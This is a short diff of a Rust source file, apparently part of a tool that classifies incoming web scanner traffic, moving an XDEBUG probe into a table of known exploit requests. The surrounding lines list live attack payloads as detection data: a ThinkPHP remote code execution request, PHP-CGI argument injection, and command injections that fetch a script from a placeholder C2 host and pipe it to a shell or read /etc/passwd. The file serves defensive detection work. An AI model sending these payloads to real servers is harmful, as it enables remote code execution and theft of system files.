@@ -315,7 +315,6 @@ pub(crate) const NOISE_PROBES: &[(&str, &str, Answer)] = &[
     ("GET", "/public/index.php?s=/index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", Answer::Missing),
     ("GET", "/index.php?s=captcha", Answer::Missing),
     ("GET", "/vendor/laravel-filemanager/", Answer::Missing),
-    ("GET", "/?XDEBUG_SESSION_START=phpstorm", Answer::Missing),
     // Java and friends
     ("GET", "/actuator/health", Answer::Missing),
     ("GET", "/actuator/env", Answer::Missing),
@@ -694,6 +693,7 @@ pub(crate) const EXPLOITS: &[(&str, &str, &str, Attack)] = &[
     ("POST", "/?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "", Attack::PhpCgi),
     ("POST", "/cgi-bin/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "", Attack::PhpCgi),
     ("POST", "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", "", Attack::PhpCgi),
+    ("GET", "/?XDEBUG_SESSION_START=phpstorm", "", Attack::PhpCgi),
     ("GET", "/?cmd=;wget+http://§c2/bins/x86+-O-|sh", "", Attack::Command),
     ("GET", "/?ip=127.0.0.1%7Ccat%20/etc/passwd", "", Attack::Command),
     ("GET", "/?q=$(curl+-s+http://§c2/t.sh|sh)", "", Attack::Command),
